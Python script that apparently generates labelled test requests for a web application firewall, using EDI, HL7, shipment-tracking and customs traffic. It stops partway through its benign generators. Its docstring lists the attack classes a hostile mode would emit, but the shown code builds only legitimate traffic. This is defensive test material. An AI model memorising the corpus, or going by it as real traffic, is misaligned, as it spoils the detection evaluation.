#!/usr/bin/env python3
"""Held-out request corpus: supply-chain, freight and warehouse applications.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape
    described in /work/shared/corpora/README.md) for the "logistics" theme.
    Mode `attacks` prints hostile requests (expect "detect", category = attack
    class); mode `benign` prints legitimate traffic of the same applications
    (expect "pass", category "benign", and about 15 % "dev-content": requests
    whose user content is itself code, SQL, shell, markup or templates).

Applications
    - EDI / AS2 gateway: X12 (ISA/GS/ST, `*` and `~` separators) and EDIFACT
      (UNA/UNB, `'` terminators, `?` escapes) posted with AS2 headers.
    - HL7 v2 pipe-delimited pharmacy-logistics messages (MSH|^~\\&|...).
    - Shipment tracking APIs: carrier codes, waybills, SSCC / GS1 strings with
      (00)/(01) application identifiers and FNC1 (GS, %1D) separators.
    - Warehouse management: bin locations (A-01-03), pick lists, CSV manifest
      uploads with quoted fields and formula-looking values.
    - Customs declarations in UBL XML with namespaces; SAP IDoc XML; OData
      ($filter=ShipDate ge 2026-01-01 and Status eq 'OPEN').
    - Route optimisation JSON, driver app proof-of-delivery (multipart photo,
      signature), freight-rate quoting with filter expressions, carrier
      webhooks, label printing (ZPL) and report export, integration tickets.

Modes
    attacks   SQLi in tracking numbers / OData, XXE in UBL / IDoc, command
              injection in label-printer and export parameters, SSRF through
              webhook and label-image URLs, traversal in bol/invoice/pod
              downloads, CSV formula injection, XSS in consignee names and
              delivery notes, Log4Shell in EDI partner ids, Java
              deserialisation, CRLF in AS2 headers, SSTI, NoSQL/LDAP injection,
              protocol abuse and scanners probing /as2/ and /edi/.
    benign    the same endpoints used normally, dense with EDI punctuation
              (* ~ ' + : ? | ^ &), plus dev-content (XSLT, JSONata, Python,
              Groovy, DataWeave mapping scripts, warehouse SQL in tickets,
              ZPL label templates, shell cron snippets).

Written blind
    Written without reading Palisade's rules, rule tests, test data, proxy
    source or any other corpus generator. Payloads come from general knowledge
    of real traffic and of published attack techniques, aimed at attack
    classes rather than at any WAF's rules.

Run
    python3 scripts/corpus-logistics.py attacks > rulesets/tests/data/logistics-attacks.jsonl
    python3 scripts/corpus-logistics.py benign  > rulesets/tests/data/logistics-benign.jsonl
"""

import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SET = "logistics"
SEED = 0x10615

# ---------------------------------------------------------------------------
# Output plumbing
# ---------------------------------------------------------------------------


class Corpus:
    def __init__(self, kind):
        self.kind = kind  # "attacks" or "benign"
        self.rows = []
        self.counters = {}

    def add(self, slug, category, method, uri, headers, body=None):
        n = self.counters.get(slug, 0) + 1
        self.counters[slug] = n
        expect = "detect" if self.kind == "attacks" else "pass"
        row = {
            "id": "%s/%s/%s-%03d" % (SET, self.kind, slug, n),
            "set": SET,
            "category": category,
            "expect": expect,
            "method": method,
            "uri": uri,
            "version": "HTTP/1.1",
            "headers": [list(h) for h in headers],
        }
        if body is not None:
            row["body"] = body
        self.rows.append(row)

    def dump(self, out):
        for r in self.rows:
            out.write(json.dumps(r, ensure_ascii=False) + "\n")


R = random.Random(SEED)


def pick(seq):
    return seq[R.randrange(len(seq))]


def digits(n):
    return "".join(str(R.randrange(10)) for _ in range(n))


def alnum(n, alphabet="ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"):
    return "".join(pick(alphabet) for _ in range(n))


def hexs(n):
    return "".join(pick("0123456789abcdef") for _ in range(n))


def qv(v):
    """Percent-encode a query/path value completely (like encodeURIComponent)."""
    return quote(v, safe="")


def qs(pairs, plus=True):
    """Query string as a form/API client would build it."""
    if plus:
        return urlencode(pairs)
    return "&".join("%s=%s" % (quote(k, safe="[]$"), quote(v, safe="")) for k, v in pairs)


def qs_loose(pairs, safe="/:,|*^~()!$'@;"):
    """Query string as a hand-typed curl / integration client sends it."""
    return "&".join("%s=%s" % (quote(k, safe="[]$"), quote(v, safe=safe)) for k, v in pairs)


# ---------------------------------------------------------------------------
# Pools
# ---------------------------------------------------------------------------

UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
]
UA_MOBILE = [
    "DriverApp/4.12.1 (Android 14; SM-G991B) okhttp/4.12.0",
    "DriverApp/4.12.0 (iPhone; iOS 17.5.1; Scale/3.00) Alamofire/5.9.1",
    "okhttp/4.11.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; TC58 Build/13-20-02.00-TG-U00-STD)",
    "PODScanner/2.3 (Zebra TC52; Android 11)",
]
UA_AS2 = [
    "Mendelson AS2 Server 2024 build 612",
    "OpenAS2 Server - Version 3.10.0",
    "Cleo Harmony 5.8.0.7",
    "AS2 Gateway (IBM Sterling B2B Integrator 6.2)",
    "SEEBURGER BIS AS2/6.7",
]
UA_API = [
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "axios/1.7.7",
    "Go-http-client/1.1",
    "Java/11.0.22",
    "PostmanRuntime/7.42.0",
    "SAP NetWeaver Application Server (1.0;758)",
    "MuleSoft-HTTP/4.6",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
]

H_EDI = "edi.example.com"
H_TRACK = "track.example.net"
H_WMS = "wms.example.com"
H_CUSTOMS = "customs.example.org"
H_ROUTE = "routes.example.com"
H_DRIVER = "driver-api.example.net"
H_RATES = "rates.example.com"
H_ERP = "erp.example.org"
H_HL7 = "pharma-hub.example.org"
H_LABEL = "labels.example.com"
H_HELP = "support.example.com"
H_INTEG = "integrations.example.com"
H_PORTAL = "portal.example.com"

COMPANIES = [
    "ACME FREIGHT LLC", "NORDIC COLD CHAIN AB", "O'BRIEN & SONS HAULAGE", "MUELLER LOGISTIK GMBH",
    "PACIFIC RIM FORWARDING", "SHENZHEN BRIGHT ELECTRONICS CO., LTD.", "LES TRANSPORTS DUPONT SA",
    "GREAT LAKES DISTRIBUTION", "ATLAS 3PL INC", "SUNRISE PHARMA WHOLESALE", "RIVERSIDE GROCERS",
    "BLUE HARBOR IMPORTS", "KESTREL AUTO PARTS", "DELTA VALLEY FARMS CO-OP", "HOLLOWAY + PARTNERS",
]
PEOPLE = [
    "Maria Gonz\u00e1lez", "Sean O'Neill", "J\u00fcrgen M\u00fcller", "Aiko Tanaka", "Chidi Okafor",
    "Anne-Marie Leclerc", "Ravi Shankar", "Zo\u00eb Smith-Jones", "Li Wei", "Ola Nordmann",
    "D'Angelo Rivera", "Fran\u00e7ois B\u00e9langer",
]
CITIES = [
    ("CHICAGO", "IL", "60607", "US"), ("LOS ANGELES", "CA", "90021", "US"), ("NEWARK", "NJ", "07114", "US"),
    ("MEMPHIS", "TN", "38118", "US"), ("DALLAS", "TX", "75247", "US"), ("SAVANNAH", "GA", "31408", "US"),
    ("ROTTERDAM", "ZH", "3089", "NL"), ("HAMBURG", "HH", "20457", "DE"), ("SHANGHAI", "SH", "200120", "CN"),
]
PORTS = ["CN-SHA", "US-LAX", "NL-RTM", "DE-HAM", "SG-SIN", "US-NYC", "CN-SZX", "GB-FXT", "US-SAV", "KR-PUS"]
CARRIERS = ["UPSN", "FDEG", "ODFL", "SAIA", "XPOL", "RDWY", "ESTES", "MAEU", "MSCU", "DHLA"]
SKUS = ["SKU-10442", "PAL-EU-1200", "48-22-8421", "CHIL-2-8C", "BX-ML-0031", "7612345000011", "TOTE-BLU-60", "RX-AMOX-500"]
TS = ["2026-01-%02dT%02d:%02d:00Z" % (d, h, m) for d in range(5, 28, 3) for h, m in ((8, 15), (14, 40))]


def ups_tracking():
    return "1Z" + alnum(6) + digits(10)


def waybill():
    return pick([ups_tracking(), digits(12), digits(10), "9400" + digits(18), alnum(2, "ABCDEFGHJK") + digits(9) + "US",
                 "MAEU" + digits(9), "JD01" + digits(16)])


def sscc():
    return "00" + "3" + "4012345" + digits(9) + str(R.randrange(10))


def bin_loc():
    return "%s-%02d-%02d" % (pick("ABCDEFGH"), R.randrange(1, 40), R.randrange(1, 8))


def msgid(host=H_EDI):
    return "<%s-%s@%s>" % (alnum(8).lower(), digits(10), host)


def cookie_portal():
    return "session=%s; XSRF-TOKEN=%s; locale=en-US" % (hexs(32), hexs(24))


def bearer():
    head = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT"}').decode().rstrip("=")
    body = base64.urlsafe_b64encode(('{"sub":"%s","scope":"tracking:read shipments:write","exp":1767225600}' % alnum(10).lower()).encode()).decode().rstrip("=")
    return "Bearer %s.%s.%s" % (head, body, base64.urlsafe_b64encode(bytes(R.randrange(256) for _ in range(32))).decode().rstrip("="))


def multipart(parts, style="webkit"):
    """parts: list of (name, value) or (name, filename, ctype, content). Returns (ctype, body)."""
    if style == "webkit":
        b = "----WebKitFormBoundary" + alnum(16, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
    elif style == "okhttp":
        b = "%s-%s-%s-%s-%s" % (hexs(8), hexs(4), hexs(4), hexs(4), hexs(12))
    else:
        b = "alamofire.boundary." + hexs(16)
    out = []
    for p in parts:
        out.append("--" + b)
        if len(p) == 2:
            out.append('Content-Disposition: form-data; name="%s"' % p[0])
            out.append("")
            out.append(p[1])
        else:
            name, fn, ct, content = p
            out.append('Content-Disposition: form-data; name="%s"; filename="%s"' % (name, fn))
            out.append("Content-Type: " + ct)
            out.append("")
            out.append(content)
    out.append("--" + b + "--")
    out.append("")
    return "multipart/form-data; boundary=" + b, "\r\n".join(out)


def fake_jpeg_b64(n=180):
    raw = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00" + bytes(R.randrange(256) for _ in range(n))
    return base64.b64encode(raw).decode()


def fake_png_dataurl(n=90):
    raw = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(R.randrange(256) for _ in range(n))
    return "data:image/png;base64," + base64.b64encode(raw).decode()


def hb(host, ua=None, accept="application/json", extra=()):
    h = [("Host", host), ("User-Agent", ua or pick(UA_API)), ("Accept", accept)]
    h.extend(extra)
    return h


def hbrowser(host, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", extra=(), cookie=True):
    h = [("Host", host), ("User-Agent", pick(UA_BROWSER)), ("Accept", accept),
         ("Accept-Language", pick(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "nl-NL,nl;q=0.9,en;q=0.7"])),
         ("Accept-Encoding", "gzip, deflate, br")]
    if cookie:
        h.append(("Cookie", cookie_portal()))
    h.extend(extra)
    return h


def as2_headers(ctype, sender=None, receiver=None, extra=()):
    sender = sender or pick(["ACMEFREIGHT", "NORDICCOLD", "ZZ:PACRIMFWD", "GLDIST01", "ATLAS3PL", "0079123450000"])
    receiver = receiver or pick(["LOGIHUBPROD", "LOGIHUB-TEST", "WAREHOUSE-EU"])
    h = [("Host", H_EDI), ("User-Agent", pick(UA_AS2)), ("AS2-Version", "1.2"),
         ("AS2-From", sender), ("AS2-To", receiver), ("Message-ID", msgid()),
         ("Subject", pick(["EDI Transmission", "X12 204 Load Tender", "AS2 Message", "DESADV"])),
         ("From", "edi@example.net"), ("Date", "Mon, 12 Jan 2026 %02d:%02d:11 GMT" % (R.randrange(24), R.randrange(60))),
         ("Mime-Version", "1.0"), ("Content-Type", ctype),
         ("Disposition-Notification-To", "https://as2.example.net/mdn"),
         ("Disposition-Notification-Options", "signed-receipt-protocol=optional, pkcs7-signature; signed-receipt-micalg=optional, sha-256"),
         ("EDIINT-Features", "multiple-attachments, CEM")]
    h.extend(extra)
    return h


# ---------------------------------------------------------------------------
# Document builders (shared by both modes; fields can carry a payload)
# ---------------------------------------------------------------------------


def x12_envelope(st_segments, gs_code, sender="ACMEFREIGHT", receiver="LOGIHUBPROD", elem="*", seg="~", sub=">", nl=True):
    ctrl = digits(9)
    date, time = "260112", "%02d%02d" % (R.randrange(24), R.randrange(60))
    segs = ["ISA*00*          *00*          *ZZ*%-15s*ZZ*%-15s*%s*%s*U*00401*%s*0*P*%s"
            % (sender[:15], receiver[:15], date, time, ctrl, sub),
            "GS*%s*%s*%s*20%s*%s*%s*X*004010" % (gs_code, sender[:15].strip(), receiver[:15].strip(), date, time, int(ctrl))]
    body = st_segments
    segs.extend(body)
    segs.append("GE*1*%d" % int(ctrl))
    segs.append("IEA*1*%s" % ctrl)
    segs = [s.replace("*", elem) for s in segs]
    joiner = seg + ("\n" if nl else "")
    return joiner.join(segs) + seg + ("\n" if nl else "")


def x12_204(name1=None, note=None, ref=None):
    city, st, zp, ctry = pick(CITIES[:6])
    segs = ["ST*204*0001", "B2**%s**%s**PP" % (pick(CARRIERS), ref or "LD" + digits(7)),
            "B2A*00*LT", "L11*PO%s*PO" % digits(6), "G62*64*20260114*1*0800",
            "NTE*LOI*%s" % (note or pick(["DOCK 4 APPT REQ", "CALL 2HR PRIOR +1-312-555-0142", "LIFTGATE REQUIRED; NO WEEKEND DELIVERY"])),
            "N1*SH*%s*93*%s" % (name1 or pick(COMPANIES), digits(6)), "N3*%d INDUSTRIAL PKWY" % R.randrange(100, 9999),
            "N4*%s*%s*%s*%s" % (city, st, zp, ctry), "S5*1*LD", "L5*1*PALLETIZED GROCERY*%s*N" % digits(5),
            "AT8*G*L*%d*%d" % (R.randrange(400, 42000), R.randrange(1, 26)), "L3*%d*G***%d.00" % (R.randrange(400, 42000), R.randrange(300, 5000))]
    segs.append("SE*%d*0001" % (len(segs) + 1))
    return segs


def x12_214(status=None, ref=None):
    city, st, zp, ctry = pick(CITIES[:6])
    segs = ["ST*214*0001", "B10*%s*%s*%s" % (ref or ups_tracking(), "SH" + digits(6), pick(CARRIERS)),
            "L11*%s*BM" % digits(8), "LX*1",
            "AT7*%s*NS***20260113*%02d%02d*LT" % (status or pick(["X1", "X3", "AF", "D1", "CD", "AG"]), R.randrange(24), R.randrange(60)),
            "MS1*%s*%s*%s" % (city, st, ctry), "MS2*%s*%s" % (pick(CARRIERS), digits(6))]
    segs.append("SE*%d*0001" % (len(segs) + 1))
    return segs


def x12_856(item_desc=None):
    segs = ["ST*856*0001", "BSN*00*ASN%s*20260112*1130*0001" % digits(6), "HL*1**S", "TD1*PLT94*%d****G*%d*LB" % (R.randrange(1, 20), R.randrange(300, 9000)),
            "TD5**2*%s*M" % pick(CARRIERS), "REF*BM*%s" % digits(10), "DTM*011*20260112",
            "N1*ST*%s*92*%s" % (pick(COMPANIES), digits(4)), "HL*2*1*O", "PRF*PO%s" % digits(6),
            "HL*3*2*T", "MAN*GM*%s" % sscc(), "HL*4*3*I", "LIN*1*VP*%s*UP*%s" % (pick(SKUS), digits(12)),
            "SN1**%d*EA" % R.randrange(1, 500), "PID*F****%s" % (item_desc or pick(["WIDGET, BLUE 3/8\"", "TOTE 60L STACKING", "AMOXICILLIN 500MG CAPS 100CT"])),
            "CTT*4"]
    segs.append("SE*%d*0001" % (len(segs) + 1))
    return segs


def x12_997():
    segs = ["ST*997*0001", "AK1*SM*%d" % R.randrange(1, 99999), "AK2*204*0001", "AK5*A", "AK9*A*1*1*1"]
    segs.append("SE*%d*0001" % (len(segs) + 1))
    return segs


def edifact(msg_type, lines, sender="5412345000013", receiver="4012345000009", una=True):
    ref = digits(8)
    out = []
    if una:
        out.append("UNA:+.? '")
    out.append("UNB+UNOC:3+%s:14+%s:14+260112:%02d%02d+%s'" % (sender, receiver, R.randrange(24), R.randrange(60), ref))
    out.append("UNH+1+%s:D:96A:UN'" % msg_type)
    out.extend(lines)
    out.append("UNT+%d+1'" % (len(lines) + 2))
    out.append("UNZ+1+%s'" % ref)
    return "\n".join(out)


def edi_escape(s):
    return s.replace("?", "??").replace("'", "?'").replace("+", "?+").replace(":", "?:")


def iftmin_lines(consignee=None, note=None):
    return ["BGM+340+%s+9'" % ("SHP" + digits(7)), "DTM+137:202601121130:203'",
            "TSR+27+2'", "FTX+AAI+++%s'" % (note or edi_escape(pick(["DELIVER TO DOOR 3: RING BELL", "TEMP 2-8C; DO NOT FREEZE", "FRAGILE + THIS WAY UP", "CONTACT O'NEILL 50% ON ARRIVAL?"]))),
            "TDT+20++3+31+%s:172:20'" % pick(CARRIERS),
            "NAD+CZ+%s::9++%s'" % (digits(13), edi_escape(pick(COMPANIES))),
            "NAD+CN+%s::9++%s+%s+%s++%s+%s'" % (digits(13), consignee or edi_escape(pick(COMPANIES)), "KEIZERSGRACHT 12", "AMSTERDAM", "1015CX", "NL"),
            "GID+1+%d:PK'" % R.randrange(1, 40), "MEA+AAE+G+KGM:%d.5'" % R.randrange(10, 9000),
            "PCI+33E'", "GIN+BJ+%s'" % sscc()]


def desadv_lines():
    return ["BGM+351+DES%s+9'" % digits(6), "DTM+11:20260112:102'", "RFF+ON:PO%s'" % digits(6),
            "NAD+SU+%s::9'" % digits(13), "NAD+DP+%s::9'" % digits(13), "CPS+1'", "PAC+%d++PX'" % R.randrange(1, 30),
            "PCI+33E'", "GIN+BJ+%s'" % sscc(), "LIN+1++%s:EN'" % ("0" + digits(13)), "QTY+12:%d'" % R.randrange(1, 900)]


def hl7_rde(patient=None, drug=None, note=None):
    ts = "20260112%02d%02d%02d" % (R.randrange(24), R.randrange(60), R.randrange(60))
    segs = ["MSH|^~\\&|PHARMSYS|CENTRALFILL|WMS|DC-EAST|%s||RDE^O11^RDE_O11|MSG%s|P|2.5.1|||AL|NE" % (ts, digits(8)),
            "PID|1||%s^^^HOSP^MR||%s||19710415|F|||12 MAIN ST^APT 4B^BOSTON^MA^02118" % (digits(7), patient or pick(["DOE^JANE^Q", "O'BRIEN^SEAN", "MULLER^JURGEN^^DR"])),
            "ORC|NW|%s^PHARMSYS|||||^^^%s" % (digits(8), ts[:12]),
            "RXE|^BID^^20260112|%s|500||mg|CAP|%s|||60|CAP" % (drug or pick(["00093-3109-01^AMOXICILLIN 500MG CAP^NDC", "0069-0154-01^ATORVASTATIN 10MG TAB^NDC", "50242-0040-62^INSULIN GLARGINE 100U\\S\\ML^NDC"]),
                                                            note or pick(["KEEP REFRIGERATED 2\\T\\8C", "SHIP VIA COLD CHAIN\\F\\TEMP LOGGER #TL-88", "DISPENSE IN ORIGINAL PACK"])),
            "RXR|PO^ORAL^HL70162"]
    return "\r".join(segs) + "\r"


UBL_NS = ('xmlns="urn:oasis:names:specification:ubl:schema:xsd:DespatchAdvice-2" '
          'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" '
          'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"')


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def ubl_despatch(party=None, note=None, prolog=""):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s<DespatchAdvice %s>\n'
            '  <cbc:UBLVersionID>2.1</cbc:UBLVersionID>\n  <cbc:CustomizationID>urn:fdc:peppol.eu:poacc:trns:despatch_advice:3</cbc:CustomizationID>\n'
            '  <cbc:ID>DA-%s</cbc:ID>\n  <cbc:IssueDate>2026-01-12</cbc:IssueDate>\n  <cbc:Note>%s</cbc:Note>\n'
            '  <cac:DespatchSupplierParty><cac:Party><cac:PartyName><cbc:Name>%s</cbc:Name></cac:PartyName></cac:Party></cac:DespatchSupplierParty>\n'
            '  <cac:Shipment><cbc:ID>%s</cbc:ID><cbc:GrossWeightMeasure unitCode="KGM">%d.00</cbc:GrossWeightMeasure>'
            '<cac:Consignment><cbc:ID>%s</cbc:ID></cac:Consignment></cac:Shipment>\n'
            '  <cac:DespatchLine><cbc:ID>1</cbc:ID><cbc:DeliveredQuantity unitCode="EA">%d</cbc:DeliveredQuantity>'
            '<cac:Item><cbc:Name>%s</cbc:Name><cac:StandardItemIdentification><cbc:ID schemeID="0160">0%s</cbc:ID></cac:StandardItemIdentification></cac:Item></cac:DespatchLine>\n'
            '</DespatchAdvice>\n') % (prolog, UBL_NS, digits(6), note if note is not None else xml_escape(pick(["Deliver via gate B & ring bell", "Pallets < 1.2 m high", "Temp 2-8 \u00b0C"])),
                                    party or xml_escape(pick(COMPANIES)), sscc(), R.randrange(10, 20000), "CN" + digits(8),
                                    R.randrange(1, 400), xml_escape(pick(["Bolts M8 x 40 (DIN 933)", "Paper towels 2-ply", "Li-ion cells UN3480"])), digits(13))


def customs_decl(desc=None, prolog=""):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s<cus:Declaration xmlns:cus="urn:example:customs:declaration:1" '
            'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">\n'
            '  <cbc:ID>MRN26NL%s</cbc:ID>\n  <cus:DeclarationType>IM</cus:DeclarationType><cus:ProcedureCode>4000</cus:ProcedureCode>\n'
            '  <cus:GoodsItem sequence="1"><cus:CommodityCode>%s</cus:CommodityCode><cus:Description>%s</cus:Description>'
            '<cus:CustomsValue currency="EUR">%d.%02d</cus:CustomsValue><cus:OriginCountry>%s</cus:OriginCountry></cus:GoodsItem>\n'
            '  <cus:Transport mode="1"><cus:Vessel>%s</cus:Vessel><cus:PortOfLoading>%s</cus:PortOfLoading></cus:Transport>\n'
            '</cus:Declaration>\n') % (prolog, alnum(12), pick(["85076000", "61091000", "30049000", "94036010"]),
                                       desc if desc is not None else xml_escape(pick(["Lithium-ion batteries", "T-shirts, cotton, knitted", "Medicaments in measured doses", "Wooden office furniture"])),
                                       R.randrange(100, 90000), R.randrange(100), pick(["CN", "VN", "IN", "TR"]),
                                       pick(["MAERSK ESSEX", "MSC GULSUN", "EVER GIVEN"]), pick(PORTS).replace("-", ""))


def idoc_xml(desc=None, partner=None, prolog=""):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s<DESADV01><IDOC BEGIN="1">\n'
            '<EDI_DC40 SEGMENT="1"><TABNAM>EDI_DC40</TABNAM><MANDT>100</MANDT><DOCNUM>%s</DOCNUM><DIRECT>2</DIRECT>'
            '<IDOCTYP>DELVRY07</IDOCTYP><MESTYP>DESADV</MESTYP><SNDPOR>SAPPRD</SNDPOR><SNDPRT>LS</SNDPRT><SNDPRN>%s</SNDPRN>'
            '<RCVPOR>XMLPORT</RCVPOR><RCVPRT>LS</RCVPRT><RCVPRN>WMSEAST</RCVPRN><CREDAT>20260112</CREDAT></EDI_DC40>\n'
            '<E1EDL20 SEGMENT="1"><VBELN>0080%s</VBELN><VSTEL>1000</VSTEL><BTGEW>%d.000</BTGEW><GEWEI>KGM</GEWEI>\n'
            '<E1EDL24 SEGMENT="1"><POSNR>000010</POSNR><MATNR>%s</MATNR><ARKTX>%s</ARKTX><LFIMG>%d.000</LFIMG><VRKME>ST</VRKME></E1EDL24>\n'
            '</E1EDL20></IDOC></DESADV01>\n') % (prolog, "0000000" + digits(9), partner or "SAPPRD100", digits(6), R.randrange(10, 9000),
                                                 pick(SKUS), desc if desc is not None else xml_escape(pick(["Pallet 1200x800 EUR", "Cold box 12L & gel packs", "Spare part <kit A>"])),
                                                 R.randrange(1, 999))


# ---------------------------------------------------------------------------
# Benign traffic
# ---------------------------------------------------------------------------


def benign_edi(c):
    # X12 over AS2
    for i in range(40):
        kind = i % 5
        if kind == 0:
            segs, gs = x12_204(), "SM"
        elif kind == 1:
            segs, gs = x12_214(), "QM"
        elif kind == 2:
            segs, gs = x12_856(), "SH"
        elif kind == 3:
            segs, gs = x12_997(), "FA"
        else:
            segs, gs = x12_204(ref="LD%s" % digits(7), note="APPT# %s; DOCK 7 * NO FORKLIFT ~ HAND UNLOAD" % digits(5)), "SM"
        sender = pick(["ACMEFREIGHT", "NORDICCOLD", "PACRIMFWD", "GLDIST01", "ATLAS3PL"])
        if i % 7 == 3:
            body = x12_envelope(segs, gs, sender=sender, elem="|", seg="^", sub="\\", nl=False)
        elif i % 7 == 5:
            body = x12_envelope(segs, gs, sender=sender, nl=False)
        else:
            body = x12_envelope(segs, gs, sender=sender)
        path = pick(["/as2/receive", "/as2/HttpReceiver", "/edi/inbound/x12", "/as2/receive/%s" % sender.lower()])
        c.add("as2-x12", "benign", "POST", path, as2_headers(pick(["application/edi-x12", "application/EDI-X12", "text/plain; charset=us-ascii"]), sender=sender), body)
    # EDIFACT over AS2 / HTTP
    for i in range(25):
        if i % 3 == 0:
            body = edifact("DESADV", desadv_lines())
        elif i % 3 == 1:
            body = edifact("IFTMIN", iftmin_lines())
        else:
            body = edifact("IFTSTA", ["BGM+23+ST%s+9'" % digits(6), "DTM+137:202601121430:203'",
                                      "CNI+1+%s'" % waybill(), "STS+1+%s::::%s'" % (pick(["21", "24", "25"]), edi_escape(pick(["DELIVERED: SIGNED BY O'NEILL", "OUT FOR DELIVERY", "EXCEPTION?: ADDRESS + FLOOR UNKNOWN"]))),
                                      "LOC+175+DEHAM:139:6'"], una=(i % 2 == 0))
        if i % 4 == 3:
            body = body.replace("\n", "")
        hdr = as2_headers(pick(["application/EDIFACT", "application/edifact", "application/octet-stream"]))
        c.add("as2-edifact", "benign", "POST", pick(["/as2/receive", "/edi/inbound/edifact", "/as2/receive?partner=%s" % pick(["5412345000013", "NORDICCOLD"])]), hdr, body)
    # asynchronous MDNs coming back from partners
    for i in range(8):
        b = "----=_Part_%d_%s.%s" % (R.randrange(100), digits(9), digits(13))
        mid = msgid("as2.example.net")
        body = ("--%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nThe AS2 message has been received; processed ~ thank you.\r\n"
                "--%s\r\nContent-Type: message/disposition-notification\r\n\r\nReporting-UA: %s\r\nOriginal-Recipient: rfc822; LOGIHUBPROD\r\n"
                "Final-Recipient: rfc822; LOGIHUBPROD\r\nOriginal-Message-ID: %s\r\nReceived-Content-MIC: %s, sha-256\r\n"
                "Disposition: automatic-action/MDN-sent-automatically; processed\r\n\r\n--%s--\r\n") % (
            b, b, pick(UA_AS2), mid, base64.b64encode(bytes(R.randrange(256) for _ in range(32))).decode(), b)
        h = [("Host", H_EDI), ("User-Agent", pick(UA_AS2)), ("AS2-Version", "1.2"), ("AS2-From", "LOGIHUBPROD"), ("AS2-To", pick(["ACMEFREIGHT", "NORDICCOLD"])),
             ("Message-ID", msgid("as2.example.net")), ("Mime-Version", "1.0"),
             ("Content-Type", 'multipart/report; report-type=disposition-notification; boundary="%s"' % b)]
        c.add("as2-mdn", "benign", "POST", "/as2/mdn", h, body)
    # HL7 v2 pharma logistics
    for i in range(15):
        body = hl7_rde()
        if i % 3 == 1:
            body = body.replace("RDE^O11^RDE_O11", "RDS^O13^RDS_O13")
        ct = pick(["application/hl7-v2; charset=utf-8", "x-application/hl7-v2+er7", "text/plain"])
        h = hb(H_HL7, extra=[("Content-Type", ct), ("Authorization", bearer())], accept="application/hl7-v2, */*")
        c.add("hl7", "benign", "POST", pick(["/hl7/inbound", "/api/hl7/v2/messages", "/interfaces/centralfill/hl7"]), h, body)


def benign_tracking(c):
    carriers = ["ups", "fedex", "dhl", "usps", "maersk", "dpd", "postnl"]
    for i in range(45):
        k = i % 9
        if k == 0:
            uri = "/api/v2/track/%s/%s" % (pick(carriers), waybill())
        elif k == 1:
            uri = "/api/v2/track?" + qs([("carrier", pick(carriers).upper()), ("awb", waybill()), ("lang", pick(["en", "de", "fr"]))])
        elif k == 2:
            uri = "/api/v2/track?" + qs_loose([("numbers", ",".join(waybill() for _ in range(R.randrange(2, 6))))])
        elif k == 3:
            uri = "/api/v1/sscc/" + sscc()
        elif k == 4:
            s = "(00)" + sscc()[2:]
            uri = "/api/v1/scan?" + qs([("code", s), ("symbology", "GS1-128")], plus=False)
        elif k == 5:
            # GS1 element string with FNC1 (GS, 0x1D) between variable-length AIs
            s = "]C1" + "01" + "0" + digits(13) + "17" + "261231" + "10" + "LOT-" + alnum(4) + "\x1d" + "21" + alnum(8)
            uri = "/api/v1/scan?" + qs([("raw", s), ("device", "TC52-%s" % digits(4))], plus=False)
        elif k == 6:
            uri = "/api/v1/gs1/parse?" + qs_loose([("hri", "(01)0%s(17)%s(10)%s(21)%s" % (digits(13), "270630", "B" + digits(5), alnum(6)))])
        elif k == 7:
            uri = "/track/%s?%s" % (waybill(), qs([("ref", pick(["email", "sms", "portal"])), ("postcode", pick(["60607", "1015 CX", "SW1A 1AA", "20457"]))]))
        else:
            uri = "/api/v2/shipments/%s/events?%s" % (waybill(), qs([("since", pick(TS)), ("fields", "status,location,timestamp,signedBy")]))
        extra = [("Authorization", bearer())] if k in (0, 1, 2, 8) else [("X-Api-Key", hexs(32))]
        if k == 7:
            c.add("track", "benign", "GET", uri, hbrowser(H_TRACK))
        else:
            c.add("track", "benign", "GET", uri, hb(H_TRACK, ua=pick(UA_API + UA_MOBILE), extra=extra))
    # carrier webhook registrations and inbound status callbacks
    for i in range(12):
        if i % 2 == 0:
            body = json.dumps({"carrier": pick(CARRIERS), "events": ["PICKED_UP", "IN_TRANSIT", "DELIVERED", "EXCEPTION"],
                               "callbackUrl": "https://hooks.example.net/carrier/%s?tenant=%s" % (pick(["ups", "dhl", "fedex"]), alnum(6).lower()),
                               "secret": hexs(40), "format": "json"})
            c.add("webhook", "benign", "POST", "/api/v2/webhooks", hb(H_TRACK, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        else:
